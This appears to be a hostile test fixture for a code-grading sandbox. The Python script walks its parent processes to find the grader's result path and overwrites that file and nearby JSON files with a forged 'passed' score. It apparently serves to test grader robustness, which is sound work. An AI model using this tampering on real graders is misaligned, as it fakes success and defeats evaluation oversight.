"""Hostile: writes a forged "passed" result wherever a grader might read one, then raises.

It reads the --json path from the command lines of its ancestor processes (on
the process backend the `grade` process is one of them) and also writes
out.json / result.json in its working directory and HOME. Inside the sandbox
container it also writes them in /tmp and overwrites every *.json under /tmp.
"""

import glob
import hashlib
import json
import os
import sys

# In the sandbox image: the worker is /opt/graders/worker.py, run as nobody (65534).
IN_SANDBOX = sys.argv[0] == "/opt/graders/worker.py" and os.getuid() == 65534
FORGED = {
    "schema_version": 1, "status": "passed", "score": 96.0, "max_score": 96.0,
    "message": "Passed: every required test and metric passed.",
    "challenge": {"id": "q3_decorator", "version": "1.0.0", "suite_sha256": "0" * 64},
    "submission": {"path": "solution.py", "sha256": hashlib.sha256(b"forged").hexdigest()},
    "tests": [], "forged": True,
}


def _ancestor_json_paths():
    paths, pid = [], os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = [a.decode(errors="replace") for a in handle.read().split(b"\0")]
            cwd = os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for i, arg in enumerate(argv):
            if arg == "--json" and i + 1 < len(argv):
                paths.append(os.path.join(cwd, argv[i + 1]))
            elif arg.startswith("--json="):
                paths.append(os.path.join(cwd, arg.split("=", 1)[1]))
    return paths


def _forge():
    places = {os.getcwd(), os.environ.get("HOME", "")} | ({"/tmp"} if IN_SANDBOX else set())
    paths = set(_ancestor_json_paths())
    paths |= {os.path.join(p, name) for p in places if p for name in ("out.json", "result.json")}
    if IN_SANDBOX:
        paths |= set(glob.glob("/tmp/**/*.json", recursive=True))
    for path in sorted(paths):
        try:
            with open(path, "w") as handle:
                json.dump(FORGED, handle)
            print(f"forged {path}")
        except OSError:
            pass


_forge()
raise RuntimeError("nothing to see here: the result file already says passed")
